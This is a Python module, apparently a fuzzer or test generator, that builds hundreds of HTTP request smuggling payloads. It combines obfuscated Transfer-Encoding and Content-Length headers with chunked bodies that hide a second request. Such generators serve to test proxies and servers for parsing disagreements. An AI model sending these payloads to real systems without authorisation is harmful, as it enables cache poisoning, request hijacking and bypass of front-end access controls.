"""Generate hundreds of ambiguous Content-Length and Transfer-Encoding fields.

A proxy and the server behind it may read each of them differently; attackers use this (request
smuggling).
"""

from collections.abc import Iterator
from itertools import product

INNER = b"GET /inner HTTP/1.1\r\nHost: inner\r\n\r\n"
BEHIND = b"GET /behind HTTP/1.1\r\nHost: behind\r\n\r\n"

# Lines that some servers read as "chunked". @ stands for the value.
CODING_NAMES = (
    b"Transfer-Encoding: @",
    b"transfer-encoding:@",
    b"Transfer-Encoding : @",
    b"Transfer-Encoding\t: @",
    b"Transfer-Encoding\x0b: @",
    b"Transfer-Encoding\x00: @",
    b"Transfer_Encoding: @",
    b"Transfer-Encoding:\r\n @",
    b"Transfer-Encoding:\n @",
    b" Transfer-Encoding: @",
    b"X: y\r\n Transfer-Encoding: @",
    b"X: y\nTransfer-Encoding: @",
    b"X: y\rTransfer-Encoding: @",
    b"X: y\r\r\nTransfer-Encoding: @",
    b"X: y\x00\r\nTransfer-Encoding: @",
    b"Transfer-Encoding: @\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: @",
    b"Transfer-Encoding: @\r\nTransfer-Encoding: @",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: @",
)
CODING_VALUES = (
    b"chunked",
    b"CHUNKED",
    b"\tchunked",
    b"chunked \t",
    b"\x0bchunked",
    b"\xa0chunked",
    b"chunked\x00",
    b"'chunked'",
    b'"chunked"',
    b"chunked;a=b",
    b"chunked,",
    b",chunked",
    b"x, chunked",
    b"chunked, x",
    b"identity",
    b"chun ked",
    b"xchunked",
)
# Lines that give the length, for which @ stands.
LENGTHS = (
    b"",
    b"Content-Length: @\r\n",
    b"Content-Length: +@\r\n",
    b"Content-Length: 0\r\nContent-Length: @\r\n",
    b"Content-Length: @, @\r\n",
    b"Content-Length : @\r\n",
    b"Content-Length:\r\n @\r\n",
    b"X: y\nContent-Length: @\r\n",
    b"Content-Length: \x0b@\r\n",
    b"Content-Length: 0x@\r\n",
    b"Content-Length: @\x00\r\n",
    b"Content_Length: @\r\n",
)
# Bodies; %x is the size of the hidden request, %s the hidden request itself.
BODIES = (
    b"%x\r\n%s\r\n0\r\n\r\n",
    b"0\r\n\r\n%.0s%s",
    b'%x;a="\n"\r\n%s\r\n0\r\n\r\n',
    b"%x;\n\r\n%s\r\n0\r\n\r\n",
    b"%x\n%s\r\n0\r\n\r\n",
    b"0x%x\r\n%s\r\n0\r\n\r\n",
    b"%x\r\n%s0\r\n\r\n",
    b"%x\r\n%s\n0\r\n\r\n",
    b"%x\r\n%s\r\n0\r\nX: y\n\r\n\r\n",
    b"%x\r\n%s\r\n0\n\n",
)


def message(coding: bytes, length: bytes, body: bytes, version: bytes = b"1.1") -> bytes:
    filled = body.replace(b"%x", b"%x" % len(INNER)).replace(b"%.0s", b"").replace(b"%s", INNER)
    lines = coding + length.replace(b"@", b"%d" % len(filled))
    return b"POST /outer HTTP/%s\r\nHost: outer\r\n%s\r\n%s%s" % (version, lines, filled, BEHIND)


def streams() -> Iterator[bytes]:
    """Yield requests that hide another in their body, in every way, each before a plain one."""
    for name, value in product(CODING_NAMES, CODING_VALUES):
        coding = name.replace(b"@", value) + b"\r\n"
        for length, body in product(LENGTHS[:2], BODIES[:2]):
            yield message(coding, length, body)
    for length, body in product(LENGTHS, BODIES):
        for coding in (b"", b"Transfer-Encoding: chunked\r\n"):
            yield message(coding, length, body)
            yield message(coding, length, body, b"1.0")
